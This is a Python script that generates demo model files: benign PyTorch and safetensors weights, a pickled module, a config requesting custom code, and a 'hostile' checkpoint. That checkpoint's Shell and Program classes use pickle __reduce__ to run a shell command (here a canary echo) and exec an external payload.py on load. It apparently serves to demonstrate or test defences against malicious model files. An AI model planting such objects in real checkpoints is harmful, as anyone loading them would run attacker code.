"""Makes the models of the demo in the folder given: small, but written by the real torch.save.

    benign/       a state dict (zip archive with a pickle), and its config.json
    safetensors/  the same weights as safetensors
    module/       the whole module, pickled
    code/         the same weights with a config.json that asks for modeling_demo.py to be imported
    hostile/      the benign state dict with two objects more, whose unpickling runs the attacker's code
"""

import collections
import json
import os
import pathlib
import struct
import sys

import torch

HERE = pathlib.Path(__file__).resolve().parent
CONFIG = {"model_type": "demo", "architectures": ["Demo"], "hidden_size": 512}
DTYPES = {torch.float32: "F32", torch.int64: "I64"}


def network():
    torch.manual_seed(7)
    return torch.nn.Sequential(torch.nn.Linear(512, 1024), torch.nn.ReLU(), torch.nn.Linear(1024, 10))


def save_safetensors(state, path):
    """Writes length, JSON header and data: the whole of the format (github.com/huggingface/safetensors)."""
    header, offset = {"__metadata__": {"format": "pt"}}, 0
    for name, tensor in state.items():
        end = offset + tensor.numel() * tensor.element_size()
        header[name] = {"dtype": DTYPES[tensor.dtype], "shape": list(tensor.shape), "data_offsets": [offset, end]}
        offset = end
    text = json.dumps(header).encode()
    text += b" " * (-len(text) % 8)
    with open(path, "wb") as f:
        f.write(struct.pack("<Q", len(text)) + text)
        for tensor in state.values():
            f.write(tensor.contiguous().numpy().tobytes())


class Shell:
    """Unpickling it runs a shell command, as most attacks seen in the wild do."""

    def __reduce__(self):
        return os.system, ('echo pwned >>"$DEMO_CANARY/marker"',)


class Program:
    """Unpickling it runs a whole Python program."""

    def __reduce__(self):
        return exec, (HERE.joinpath("payload.py").read_text(), {})


def folder(top, name, config=CONFIG):
    path = top / name
    path.mkdir(parents=True, exist_ok=True)
    if config:
        path.joinpath("config.json").write_text(json.dumps(config, indent=2) + "\n")
    return path


def main(top):
    net = network()
    state = net.state_dict()
    torch.save(state, folder(top, "benign") / "pytorch_model.bin")
    save_safetensors(state, folder(top, "safetensors") / "model.safetensors")
    torch.save(net, folder(top, "module", None) / "model.pt")

    code = folder(top, "code", dict(CONFIG, auto_map={"AutoModel": "modeling_demo.Demo"}))
    code.joinpath("modeling_demo.py").write_text("import torch\n\n\nclass Demo(torch.nn.Module):\n    pass\n")
    save_safetensors(state, code / "model.safetensors")

    hostile = collections.OrderedDict(state)
    hostile["loaded"] = Shell()
    hostile["ready"] = Program()
    torch.save(hostile, folder(top, "hostile") / "pytorch_model.bin")


if __name__ == "__main__":
    main(pathlib.Path(sys.argv[1]))
